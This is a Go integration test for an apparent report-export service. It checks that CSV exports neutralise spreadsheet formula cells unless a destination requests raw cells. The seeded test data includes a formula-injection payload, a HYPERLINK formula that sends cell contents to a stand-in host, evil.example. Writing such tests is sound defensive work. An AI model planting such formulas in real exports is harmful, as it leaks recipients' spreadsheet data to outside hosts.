package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/facteur/facteur"
	"github.com/facteur/facteur/store"
)

// TestFormulaCells: a text cell a spreadsheet would run as a formula is
// neutralised in the CSV a partner receives, unless the destination is a
// machine that asks for raw cells.
func TestFormulaCells(t *testing.T) {
	path := filepath.Join(t.TempDir(), "evil.db")
	db, err := store.Open(context.Background(), store.Config{SQLitePath: path})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"CREATE TABLE notes (id INTEGER, body TEXT, delta INTEGER)",
		`INSERT INTO notes VALUES (1, '=HYPERLINK("http://evil.example/?"&A1)', -3), (2, '＋SUM(1)', 4), (3, 'fine', 5)`} {
		if _, err := db.SQL().Exec(s); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()

	n := startServe(t, t.TempDir())
	var src, rep struct{ ID int64 }
	n.must(201, "POST", "/api/v1/sources", map[string]any{"name": "notes", "dsn": "sqlite:" + path}, &src)
	n.must(201, "POST", "/api/v1/reports", map[string]any{"name": "notes", "source_id": src.ID, "sql": "select * from notes order by id"}, &rep)
	for _, tc := range []struct {
		raw  bool
		want string
	}{
		{false, "id,body,delta\n1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",-3\n2,'＋SUM(1),4\n3,fine,5\n"},
		{true, "id,body,delta\n1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",-3\n2,＋SUM(1),4\n3,fine,5\n"},
	} {
		dir := t.TempDir()
		var dest struct {
			ID       int64
			RawCells bool `json:"raw_cells"`
		}
		n.must(201, "POST", "/api/v1/destinations", map[string]any{"name": fmt.Sprint("drop ", tc.raw), "kind": "folder", "raw_cells": tc.raw, "config": map[string]any{"path": dir}}, &dest)
		if dest.RawCells != tc.raw {
			t.Fatalf("raw_cells not kept: %+v", dest)
		}
		r := runOnce(t, n, rep.ID, dest.ID, "notes.csv")
		got, _ := os.ReadFile(filepath.Join(dir, "notes.csv"))
		if r.Status != facteur.RunSucceeded || string(got) != tc.want {
			t.Errorf("raw_cells=%v: %s %s\n got %q\nwant %q", tc.raw, r.Status, r.Error, got, tc.want)
		}
	}
}
